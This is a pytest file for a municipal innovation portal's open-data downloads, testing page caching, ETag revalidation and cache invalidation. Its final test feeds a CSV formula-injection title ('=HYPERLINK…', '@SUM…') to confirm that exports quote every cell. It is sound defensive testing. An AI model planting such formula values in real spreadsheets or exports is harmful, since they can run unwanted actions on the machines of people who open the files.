    assert header.startswith("id,")

    response, body = _served("get")

    assert response["X-Page-Cache"] == "miss"
    assert "Cykelpilot" in body


def test_a_file_too_large_to_keep_is_made_each_time(
    client, page_cache, make_initiative, monkeypatch
):
    """The cache holds files up to a size (a large portfolio's would crowd out the pages);
    larger ones are made for each download, as before."""
    from helsingborg_innovation import pagecache

    make_initiative(title="Cykelpilot")
    monkeypatch.setattr(pagecache, "STREAMED_KEPT_BYTES", 100)
    _fetched(client, "initiatives", "csv")
    response, body = _fetched(client, "initiatives", "csv")
    assert response["X-Page-Cache"] == "miss"
    assert "Cykelpilot" in body


# Asked again with its ETag ------------------------------------------------------------------
# Harvesters poll the files on a schedule: each poll downloaded the whole file, and without
# a copy kept (a file over STREAMED_KEPT_BYTES) made it afresh, though nothing had changed.


def _asked(
    client, dataset: str, fmt: str = "csv", etag=None, method="get", language="en", **params
):
    """The response and its body, with If-None-Match when `etag` is given."""
    headers = {"If-None-Match": etag} if etag else {}
    response = getattr(client, method)(url(dataset, fmt, language), params, headers=headers)
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return response, body.decode()


def _etag(client, dataset: str, fmt: str = "csv", **params) -> str:
    response, _body = _asked(client, dataset, fmt, **params)
    assert response.status_code == 200
    return response["ETag"]


@pytest.mark.parametrize("dataset", DATASETS)
@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_a_file_carries_an_etag_a_script_on_another_site_may_read(
    client,
    page_cache,
    portfolio,
    make_idea,  # noqa: F811
    dataset,
    fmt,
):
    make_idea(challenge=portfolio["challenge"], status=S.PUBLISHED)
    made, _body = _asked(client, dataset, fmt)
    kept, _body = _asked(client, dataset, fmt)

    assert made["X-Page-Cache"] == "miss"
    assert kept["X-Page-Cache"] == "hit"
    assert made["ETag"] and kept["ETag"] == made["ETag"]
    exposed = {h.strip().lower() for h in kept["Access-Control-Expose-Headers"].split(",")}
    assert "etag" in exposed
    # No date that an unpublished or deleted item leaves where it was (see opendata.export).
    assert "Last-Modified" not in made


@pytest.mark.parametrize("dataset", DATASETS)
@pytest.mark.parametrize("kept", [True, False], ids=["kept", "too-large-to-keep"])
def test_a_file_asked_for_with_its_etag_is_not_modified_and_nothing_is_read(
    client,
    page_cache,
    portfolio,
    make_idea,  # noqa: F811
    monkeypatch,
    dataset,
    kept,
):
    """Whether the file is kept or made for each download (over STREAMED_KEPT_BYTES), the
    304 is answered before it is read or made: no query at all."""
    from helsingborg_innovation import pagecache

    if not kept:
        monkeypatch.setattr(pagecache, "STREAMED_KEPT_BYTES", 10)
    make_idea(challenge=portfolio["challenge"], status=S.PUBLISHED)
    etag = _etag(client, dataset)

    with CaptureQueriesContext(connection) as queries:
        response, body = _asked(client, dataset, etag=etag)

    assert response.status_code == 304
    assert body == ""
    assert len(queries) == 0
    assert response["ETag"] == etag
    assert response["Access-Control-Allow-Origin"] == "*"
    assert "etag" in response["Access-Control-Expose-Headers"].lower()
    again, body = _asked(client, dataset)
    assert again["X-Page-Cache"] == ("hit" if kept else "miss")
    assert again["ETag"] == etag


def _publish(item) -> None:
    item.status = Status.PUBLISHED
    item.save()


@pytest.mark.parametrize("kept", [True, False], ids=["kept", "too-large-to-keep"])
def test_publishing_an_initiative_gives_its_file_another_etag(
    client, page_cache, make_initiative, monkeypatch, kept
):
    from helsingborg_innovation import pagecache

    if not kept:
        monkeypatch.setattr(pagecache, "STREAMED_KEPT_BYTES", 10)
    make_initiative(title="Cykelpilot")
    draft = make_initiative(title="Solceller på taken", status=Status.DRAFT)
    etag = _etag(client, "initiatives")

    _publish(draft)
    response, body = _asked(client, "initiatives", etag=etag)

    assert response.status_code == 200
    assert "Solceller på taken" in body
    assert response["ETag"] != etag
    assert _asked(client, "initiatives", etag=response["ETag"])[0].status_code == 304


def test_renaming_a_challenge_gives_the_initiatives_file_another_etag(
    client, page_cache, make_challenge, make_initiative
):
    """The initiatives file names its challenges by slug."""
    challenge = make_challenge(slug="gamla-namnet")
    make_initiative(challenges=[challenge])
    etag = _etag(client, "initiatives", "json")

    challenge.slug = "nya-namnet"
    challenge.save()
    response, body = _asked(client, "initiatives", "json", etag=etag)

    assert response.status_code == 200
    assert json.loads(body)[0]["challenges"] == ["nya-namnet"]


def test_publishing_an_idea_changes_the_ideas_etag_and_not_the_initiatives(
    client,
    page_cache,
    make_challenge,
    make_initiative,
    make_idea,  # noqa: F811
):
    challenge = make_challenge()
    make_initiative()
    waiting = make_idea(challenge=challenge, title="Fler bänkar")
    ideas, initiatives = _etag(client, "ideas"), _etag(client, "initiatives")

    waiting.status = S.PUBLISHED
    waiting.save()

    response, body = _asked(client, "ideas", etag=ideas)
    assert response.status_code == 200
    assert "Fler bänkar" in body
    assert _asked(client, "initiatives", etag=initiatives)[0].status_code == 304


def test_each_language_format_and_filter_has_an_etag_of_its_own(client, page_cache, portfolio):
    """The same ETag sent to another address is never taken for its file."""
    etags = {
        _etag(client, "initiatives", "csv"),
        _etag(client, "initiatives", "json"),
        _etag(client, "initiatives", "csv", phase="stopped"),
        _asked(client, "initiatives", "csv", language="sv")[0]["ETag"],
    }
    assert len(etags) == 4
    swedish, _body = _asked(client, "initiatives", language="sv", etag=_etag(client, "initiatives"))
    assert swedish.status_code == 200


def test_a_head_request_carries_the_files_etag(client, page_cache, make_initiative):
    make_initiative()
    head, _body = _asked(client, "initiatives", method="head")
    etag = _etag(client, "initiatives")

    assert head.status_code == 200
    assert head["ETag"] == etag
    assert _asked(client, "initiatives", method="head", etag=etag)[0].status_code == 304
    assert _asked(client, "initiatives", method="head")[0]["ETag"] == etag


def test_the_challenges_etag_changes_the_day_a_challenge_closes_and_only_then(
    client, page_cache, make_challenge, make_initiative, monkeypatch
):
    """A challenge's is_open changes with the date, without any change saved. Nothing else
    in the files does: a file harvested once a day is 304 while none closes."""
    today = timezone.localdate()
    make_challenge(slug="sista-dagen", open_until=today)
    make_challenge(slug="nasta-vecka", open_until=today + timedelta(days=7))
    make_initiative()
    challenges, initiatives = _etag(client, "challenges", "json"), _etag(client, "initiatives")

    localdate = timezone.localdate

    def days_later(days: int):
        monkeypatch.setattr(
            timezone, "localdate", lambda *args, **kw: localdate(*args, **kw) + timedelta(days)
        )

    days_later(1)
    response, body = _asked(client, "challenges", "json", etag=challenges)
    assert response.status_code == 200
    assert {row["slug"]: row["is_open"] for row in json.loads(body)} == {
        "sista-dagen": False,
        "nasta-vecka": True,
    }
    assert _asked(client, "initiatives", etag=initiatives)[0].status_code == 304

    days_later(2)
    assert _asked(client, "challenges", "json", etag=response["ETag"])[0].status_code == 304


def test_a_scheduled_initiative_going_public_gives_its_file_another_etag(
    client, page_cache, make_initiative, monkeypatch
):
    from helsingborg_innovation import pagecache

    make_initiative(title="Schemalagt", publish_at=timezone.now() + timedelta(hours=2))
    etag = _etag(client, "initiatives")
    assert _asked(client, "initiatives", etag=etag)[0].status_code == 304

    later = timezone.now() + timedelta(hours=3)
    monkeypatch.setattr(timezone, "now", lambda: later)
    monkeypatch.setattr(pagecache.time, "time", later.timestamp)
    response, body = _asked(client, "initiatives", etag=etag)

    assert response.status_code == 200
    assert "Schemalagt" in body


def test_the_open_data_page_tells_harvesters_to_ask_with_the_etag(client, db):
    with translation.override("en"):
        html = client.get(reverse("opendata:index")).text
    assert (
        "Each file carries an ETag: ask again with it in <code>If-None-Match</code> and you "
        "get <code>304 Not Modified</code>, without the file, while nothing in it has changed."
    ) in html
    html = client.get(reverse("opendata:index")).text
    assert "Varje fil har en ETag" in html


def test_without_the_page_cache_a_file_has_no_etag(client, make_initiative):
    """Only the page cache's check on the way in vouches that nothing scheduled has gone
    public since the generations were read: without it, no ETag rather than a stale 304."""
    make_initiative()
    response, _body = _asked(client, "initiatives")
    assert response.status_code == 200
    assert "ETag" not in response


def test_a_file_asked_for_with_its_filters_written_otherwise_is_the_same_file(
    client, page_cache, portfolio
):
    """The filters in another order, or a space written "%20" for "+", ask for the same file:
    it is served from the copy kept, and the ETag given for one is good for the other."""
    address = url("initiatives", "csv")
    made = client.get(address + "?phase=stopped&q=sensorer+i")
    etag = made["ETag"]
    body = b"".join(made.streaming_content)

    served = client.get(address + "?q=sensorer%20i&phase=stopped")
    asked_again = client.get(
        address + "?q=sensorer%20i&phase=stopped", headers={"If-None-Match": etag}
    )

    assert served["X-Page-Cache"] == "hit"
    assert served.content == body and b"Sensorer i avloppet" in body
    assert served["ETag"] == etag
    assert asked_again.status_code == 304


def test_the_download_of_a_later_page_of_a_list_is_the_file_of_the_whole_filtered_list(
    client, page_cache, settings, make_initiative
):
    """A list's download links carried its whole query on, the page number too
    ("?phase=pilot&page=2"): the file holds every page of the list anyway, and a parameter the
    file does not read kept it out of the cache, so each such download was made afresh and had
    no ETag to revalidate."""
    settings.PAGE_SIZE = 2
    for _ in range(3):
        make_initiative()

    page = client.get(reverse("initiatives:list"), {"phase": "pilot", "page": 2}).text
    offered = re.findall(r'<a class="download-links__link" href="([^"]+)"', page)

    assert [link.replace("&amp;", "&") for link in offered] == [
        "/oppna-data/initiativ.csv?phase=pilot",
        "/oppna-data/initiativ.json?phase=pilot",
    ]
    first = client.get(offered[0])
    b"".join(first.streaming_content)  # sent whole, as a server does, then kept
    second = client.get(offered[0])
    assert (first["X-Page-Cache"], second["X-Page-Cache"]) == ("miss", "hit")
    assert "ETag" in second
    unfiltered = client.get(reverse("initiatives:list"), {"page": 2}).text
    assert re.findall(r'<a class="download-links__link" href="([^"]+)"', unfiltered) == [
        "/oppna-data/initiativ.csv",
        "/oppna-data/initiativ.json",
    ]


def _cells_split_on_semicolons(body: str) -> list[str]:
    """The cells of a file as a Swedish Excel double-clicked reads it: split on ";", its list
    separator, and on line ends, except inside double quotes (a quote opens or closes them
    wherever it stands)."""
    cells, cell, quoted = [], "", False
    for char in body:
        if char == '"':
            quoted = not quoted
        elif char in ";\r\n" and not quoted:
            cells.append(cell)
            cell = ""
        else:
            cell += char
    return [*cells, cell]


def test_a_formula_after_a_semicolon_is_not_a_cell_of_its_own_in_a_swedish_excel(
    client,
    make_challenge,
    make_idea,  # noqa: F811
):
    """A Swedish Excel opening a CSV with a double click splits its lines on ";": an idea
    titled Idé;=HYPERLINK(…) left "=HYPERLINK(…)" a cell of its own, a live formula, past the
    apostrophe given to a text that begins with one. Every value is quoted (as OWASP advises),
    so a ";" is always inside a value's quotes."""
    challenge = make_challenge(slug="formel")
    title = "Idé;=HYPERLINK(A1);@SUM(1)"
    make_idea(challenge=challenge, status=S.PUBLISHED, title=title, text="Rad 1;\n-1+1")

    _response, body = download(client, "ideas", "csv")
    formulas = [
        cell
        for cell in _cells_split_on_semicolons(body)
        if cell.lstrip().startswith(opendata.FORMULA_STARTS)
    ]
    assert formulas == []
    (row,) = rows(client, "ideas", "csv")
    assert row["title"] == title
    assert row["text"] == "Rad 1;\n-1+1"
    assert row["id"].isdigit()
